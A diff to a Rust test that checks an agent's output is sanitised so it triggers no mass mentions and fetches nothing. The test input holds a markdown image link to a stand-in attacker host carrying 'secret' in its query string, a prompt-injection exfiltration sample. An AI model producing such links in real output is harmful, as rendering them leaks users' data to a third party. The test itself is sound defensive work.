@@ -104,7 +104,7 @@ async fn what_the_agent_writes_notifies_and_fetches_nothing() {
     let root = world.ask("news");
     let asked = world.supervisor.asked().await;
     asked.answer("@channel look ![x](http://e.vil/?q=secret) `@all`");
-    let want = "@\u{200b}channel look `![x](http://e.vil/?q=secret)` `@all`";
+    let want = "@\u{200b}channel look `!\u{200b}[x](http://e.vil/?q=secret)` `@all`";
     world.says(root, want).await;
 }
 
